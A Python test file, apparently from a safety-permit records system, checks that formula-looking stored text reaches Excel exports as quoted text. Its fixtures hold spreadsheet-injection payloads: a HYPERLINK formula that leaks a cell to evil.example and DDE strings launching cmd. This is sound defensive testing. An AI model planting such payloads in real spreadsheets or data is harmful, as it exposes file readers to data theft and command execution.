"""Stored text that looks like a formula reaches every export as text: never a live formula or DDE call.

Each export is built from a month whose permits, people, alarms, audit trail, certificate rows and
weights carry attacker-chosen text, then reopened with openpyxl as Excel would read the file.
"""
from __future__ import annotations

from dataclasses import replace
from datetime import datetime

import pytest
from openpyxl import load_workbook

from exports import certificates, weights
from exports.build import build_audit, build_certificates, build_ledger, build_report
from exports.period import month as read_month
from exports.run import Run
from exports.scope import Scope
from exports.sheet import FORMULA_LEADS
from models import Alarm, AuditEvent, Department, Person
from models.permit import Permit

NOVEMBER = read_month("2026-11")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
EVIL = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def cells(path):
    """Yield (sheet title, cell) for every cell of the workbook at path."""
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def assert_written_as_text(path, expected: dict[str, set[str]], *, own_formulas: bool = False):
    """Assert each expected value sits in its sheet as text, and no stored text became a formula."""
    found: dict[str, set[str]] = {}
    for title, cell in cells(path):
        if isinstance(cell.value, str) and cell.value in EVIL:
            assert cell.data_type == "s", f"{title}!{cell.coordinate} holds {cell.value!r} as {cell.data_type}"
            assert cell.quotePrefix, f"{title}!{cell.coordinate} would turn into a formula when edited"
            found.setdefault(title, set()).add(cell.value)
        if cell.data_type == "f":
            # Only the report writes formulas of its own, and none of them carries stored text.
            assert own_formulas and not any(evil.lstrip("\t\r=+-@") in cell.value for evil in EVIL), \
                f"{title}!{cell.coordinate} is a formula: {cell.value!r}"
    for title, values in expected.items():
        assert values <= found.get(title, set()), f"{title}: {values - found.get(title, set())} not found as text"


@pytest.fixture
def poisoned(month):
    """Put formula-looking text wherever a person or a workbook can write it."""
    hot, height, confined, refused = month
    Permit.update(location=HYPERLINK, content=DDE).where(Permit.id == hot.id).execute()
    Permit.update(location="+1+cmd|' /C calc'!A0", content="-2+3").where(Permit.id == height.id).execute()
    Permit.update(location="\t=1+1", content="\r=1+1").where(Permit.id == confined.id).execute()
    Department.update(name="@SUM(1+1)*cmd|' /C calc'!A0").where(Department.id == hot.unit_id).execute()
    Person.update(name=DDE).where(Person.wecom_userid == "zhengji").execute()
    Alarm.update(text=HYPERLINK).execute()
    return month


def test_the_ledger_writes_every_place_content_and_name_as_text(poisoned, tmp_path):
    built = build_ledger(Scope(NOVEMBER), tmp_path / "ledger.xlsx", Run.current())
    assert_written_as_text(built.path, {
        "作业票台账": {HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1",
                   "@SUM(1+1)*cmd|' /C calc'!A0"},
        "签字明细": {DDE},                      # 郑计's name as the signer
        "气体检测记录": {HYPERLINK},             # the place of the permit a reading belongs to
        "报警记录": {HYPERLINK},                 # the alarm's text
    })
    # Numbers and times stay numbers and times.
    sheet = load_workbook(built.path)["作业票台账"]
    header = [c.value for c in sheet[3]]
    row = {h: c for h, c in zip(header, sheet[4])}
    assert row["作业地点"].value == HYPERLINK
    assert isinstance(row["计划开始"].value, datetime) and row["计划开始"].data_type == "d"
    assert isinstance(row["O2 %vol"].value, float) and row["O2 %vol"].data_type == "n"
    assert isinstance(row["暂停次数"].value, int) and row["暂停次数"].data_type == "n"
    # Ordinary text is text too, and keeps no quote prefix it does not need.
    assert row["作业类型"].data_type == "s" and not row["作业类型"].quotePrefix


def test_the_audit_export_writes_actors_and_contents_as_text(poisoned, tmp_path):
    victim = AuditEvent.select().order_by(AuditEvent.seq).first()
    AuditEvent.update(actor=HYPERLINK).where(AuditEvent.id == victim.id).execute()
    built = build_audit(tmp_path / "audit.xlsx", Run.current(), permit_no=victim.permit_no)
    assert_written_as_text(built.path, {"审计记录": {HYPERLINK}})
    sheet = load_workbook(built.path)["审计记录"]
    assert sheet["A4"].data_type == "n" and isinstance(sheet["A4"].value, int)


def test_the_certificate_sheet_writes_its_rows_as_text_and_numbers(plant, tmp_path):
    certificates.register(lambda period, now: [[DDE, "-作业人", 3, 2, 1, 1, 0, 66.7]])
    try:
        built = build_certificates(NOVEMBER, tmp_path / "certs.xlsx", Run.current())
    finally:
        certificates.unregister()
    assert_written_as_text(built.path, {"持证情况统计表": {DDE}})
    row = list(load_workbook(built.path)["持证情况统计表"].iter_rows(min_row=4, max_row=4))[0]
    assert [c.data_type for c in row] == ["s", "s", "n", "n", "n", "n", "n", "n"]
    assert row[1].value == "-作业人" and row[1].quotePrefix


def test_the_report_keeps_its_own_formulas_and_writes_stored_text_as_text(poisoned, tmp_path):
    items = tuple(replace(item, name=HYPERLINK) if item.code == "process" else item for item in weights.DEFAULT)
    built = build_report(NOVEMBER, tmp_path / "report.xlsx", Run.current(), items)
    assert_written_as_text(built.path, {"权重配置": {HYPERLINK}, "综合评价": {HYPERLINK}}, own_formulas=True)
    book = load_workbook(built.path)
    formulas = [c for _, c in cells(built.path) if c.data_type == "f"]
    assert formulas and all(c.value.startswith("=") for c in formulas)   # the live score is still live
    assert book["权重配置"]["E4"].data_type == "n"


def test_every_lead_that_makes_a_formula_is_covered():
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}
    assert {evil[0] for evil in EVIL} == set(FORMULA_LEADS)
